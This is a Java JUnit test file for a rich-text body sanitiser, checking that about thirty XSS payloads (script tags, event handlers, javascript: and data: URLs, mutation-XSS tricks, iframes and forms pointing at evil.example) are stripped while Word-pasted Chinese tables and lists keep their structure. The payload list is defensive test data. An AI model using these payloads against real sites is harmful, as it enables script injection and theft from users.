package org.gongkai.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Known XSS payloads never survive the body allow-list; Word-pasted structure does. */
class BodySanitizerTests {

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"/items/a/attachments/1\" onload=\"alert(1)\">",
            "<a href=\"javascript:alert(1)\">点我</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">点我</a>",
            "<a href=\"&#106;avascript:alert(1)\">点我</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<svg onload=alert(1)><circle r=10></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
            "<p style=\"background:url(javascript:alert(1))\">文字</p>",
            "<div style=\"width: expression(alert(1))\">文字</div>",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<body onload=alert(1)>",
            "<p onclick=\"alert(1)\" onmouseover=\"alert(1)\">文字</p>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1)//<</script>",
            "<form action=\"https://evil.example\"><input name=x><button>提交</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<table background=\"javascript:alert(1)\"><tr><td>单元格</td></tr></table>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<base href=\"https://evil.example/\">",
            "<a href=\"vbscript:msgbox(1)\">点我</a>",
            "<img src=\"https://evil.example/track.gif\">"})
    void dangerousMarkupNeverSurvives(String payload) {
        String clean = BodySanitizer.sanitise("<p>正文</p>" + payload).toLowerCase(Locale.ROOT);
        assertThat(clean).doesNotContain("<script", "onerror", "onload", "onclick", "onmouseover", "javascript:", "vbscript:",
                "data:", "<iframe", "<object", "<embed", "<svg", "<style", "style=", "expression(", "<form", "<meta", "<link",
                "<base", "evil.example/track", "background=");
        assertThat(clean).contains("<p>正文</p>");
    }

    @Test
    void wordPastedTablesAndListsKeepTheirStructureAndLoseTheirStyles() {
        String word = """
                <p class=MsoNormal style='text-indent:21.0pt'><span lang=EN-US style='font-family:仿宋_GB2312'>一、工作目标<o:p></o:p></span></p>
                <table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse'>
                 <tr><td width=100 style='border:solid windowtext 1.0pt'><p class=MsoNormal><b>区名</b></p></td>
                     <td colspan=2 style='mso-border-alt:solid'><p class=MsoNormal><b>接种人次</b></p></td></tr>
                 <tr><td><p>越秀区</p></td><td><p>12,345</p></td><td rowspan="2"><p>达标</p></td></tr>
                </table>
                <ol><li class=MsoListParagraph style='mso-list:l0 level1'>第一项</li><li>第二项</li></ol>
                <h2 style='mso-outline-level:2'>二、保障措施</h2>
                <a href="https://www.gov.cn/zhengce/" target=_blank>国务院政策文件库</a>
                <img src="/items/abc123/attachments/1" alt="接种点分布图">""";
        String clean = BodySanitizer.sanitise(word);
        assertThat(clean).contains("<table>", "<tr>", "<td colspan=\"2\">", "<td rowspan=\"2\">", "<b>区名</b>", "12,345", "<ol>",
                "<li>第一项</li>", "<h2>二、保障措施</h2>", "一、工作目标", "href=\"https://www.gov.cn/zhengce/\"",
                "src=\"/items/abc123/attachments/1\"", "alt=\"接种点分布图\"");
        assertThat(clean).doesNotContain("class=", "style=", "mso-", "<o:p>", "<span", "font-family", "width=");
        assertThat(clean).contains("rel=\"noopener noreferrer\"");
    }

    /** The whole clipboard document Word hands to a browser (a paste without the editor, or an editor that kept all of it). */
    @Test
    void aWholeWordClipboardDocumentLosesItsHeadStylesAndListMarkupButKeepsTheTable() {
        String word = """
                <html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
                <head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
                <!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
                <style><!-- p.MsoNormal {margin:0cm; font-size:10.5pt; font-family:等线;} @page WordSection1 {size:595.3pt 841.9pt;} --></style>
                </head>
                <body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
                <p class=MsoListParagraph style='margin-left:18.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
                 style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span><![endif]>落实接种点责任<o:p></o:p></p>
                <table class=MsoNormalTable border=1 cellspacing=0 cellpadding=0 width=553 style='width:415.0pt;border-collapse:collapse;
                 mso-yfti-tbllook:1184;mso-padding-alt:0cm 5.4pt 0cm 5.4pt'>
                 <thead><tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'>
                  <th width=120 valign=top style='border:solid windowtext 1.0pt;background:#D9E2F3;mso-shading:white'><p class=MsoNormal
                   align=center style='text-align:center'><b><span style='font-family:黑体'>区名</span></b><o:p></o:p></p></th>
                  <th colspan=2 scope=colgroup style='mso-border-alt:solid windowtext .5pt'><p class=MsoNormal><b>接种人次<o:p></o:p></b></p></th></tr></thead>
                 <tr><td rowspan=2 style='mso-rotate:90'><p class=MsoNormal>越秀区</p></td><td><p class=MsoNormal>第一季度</p></td>
                  <td><p class=MsoNormal><span lang=EN-US>12,345<o:p></o:p></span></p></td></tr>
                 <tr><td><p class=MsoNormal>第二季度</p></td><td><p class=MsoNormal><span lang=EN-US>9,876</span></p></td></tr>
                </table>
                <p class=MsoNormal><v:shape id="_x0000_i1025" style='width:100pt'><v:imagedata src="file:///C:/Users/x/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png"
                 o:title=""/></v:shape><img width=100 src="file:///C:/Users/x/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" v:shapes="_x0000_i1025"></p>
                <!--EndFragment--></body></html>""";
        String clean = BodySanitizer.sanitise(word);
        assertThat(clean).contains("<table>", "<thead>", "<th colspan=\"2\" scope=\"colgroup\">", "<td rowspan=\"2\">", "<b>区名</b>",
                "12,345", "9,876", "第二季度", "落实接种点责任", "1.");
        assertThat(clean).doesNotContain("class=", "style=", "mso-", "<o:p", "o:p", "<span", "<v:", "imagedata", "file:", "<img",
                "WordDocument", "MsoNormal", "@page", "等线", "<meta", "<style", "<html", "<body", "StartFragment", "align=", "valign=",
                "width=", "border=", "cellspacing", "lang=", "<![");
    }

    @Test
    void fullWidthPunctuationIsStoredAsCharactersAndMarkupStaysEscaped() {
        assertThat(BodySanitizer.sanitise("<p>（一）“双随机”抽查&lt;script&gt;</p>")).isEqualTo("<p>（一）“双随机”抽查&lt;script&gt;</p>");
        assertThat(BodySanitizer.text("<p>第一段</p><p>第二段&amp;</p>")).isEqualTo("第一段 第二段&");
    }
}
